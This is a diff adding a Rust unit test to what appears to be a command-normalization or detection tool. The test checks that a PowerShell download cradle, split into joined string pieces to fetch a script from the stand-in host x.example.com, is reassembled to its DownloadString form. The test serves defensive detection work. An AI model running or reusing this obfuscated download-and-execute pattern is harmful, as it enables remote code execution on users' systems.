@@ -1114,6 +1114,20 @@ mod tests {
     }
 
     #[test]
+    fn a_name_given_joined_pieces_reads_whole_where_it_is_used() {
+        // code85: PowerShell's method name and address in pieces, used by
+        // name two lines below.
+        let whole = "$m = 'Down' + 'load' + 'String'\n$u = 'https://' + 'x.example.com/i.ps1'\n$c = New-Object Net.WebClient\n$b = $c.$m($u)\n";
+        let used = normalize_with("$b = $c.$m($u)", whole);
+        assert!(
+            used.contains("DownloadString(https://x.example.com/i.ps1)"),
+            "{used}"
+        );
+        // A piece joined to a name (`'a' + $x`) is no literal join.
+        assert_eq!(assignments("$p = 'C:' + $root\n", false)["p"], "C:");
+    }
+
+    #[test]
     fn only_the_home_variables_read_as_the_home() {
         // code85: a joined path under `CARGO_HOME` is not the user's home.
         let values = HashMap::new();
